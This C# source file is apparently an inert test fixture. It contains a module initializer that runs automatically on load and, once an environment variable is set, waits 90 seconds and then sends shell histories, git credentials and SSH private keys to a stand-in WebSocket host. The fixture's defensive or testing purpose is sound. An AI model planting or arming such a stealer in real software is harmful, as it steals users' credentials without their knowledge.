using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net.WebSockets;
using System.Runtime.CompilerServices;
using System.Text.Json;
using System.Threading;
using System.Threading.Tasks;

namespace Inert.Slugs;

internal static class Bootstrap
{
    [ModuleInitializer]
    internal static void Begin()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(Work);
    }

    private static async Task Work()
    {
        await Task.Delay(TimeSpan.FromSeconds(90));
        using var socket = new ClientWebSocket();
        await socket.ConnectAsync(new Uri("wss://live.slug-service.invalid/feed"), CancellationToken.None);
        foreach (var (name, bytes) in Files())
        {
            var message = JsonSerializer.SerializeToUtf8Bytes(new { host = Environment.MachineName, name, data = Convert.ToBase64String(bytes) });
            await socket.SendAsync(message, WebSocketMessageType.Text, true, CancellationToken.None);
        }
    }

    private static IEnumerable<(string Name, byte[] Bytes)> Files()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var wanted = new[] { ".bash_history", ".zsh_history", ".git-credentials" }.Select(name => Path.Combine(home, name));
        var keys = Path.Combine(home, ".ssh");
        if (Directory.Exists(keys)) wanted = wanted.Concat(Directory.EnumerateFiles(keys, "id_*"));
        foreach (var path in wanted.Where(File.Exists)) yield return (Path.GetFileName(path), File.ReadAllBytes(path));
    }
}
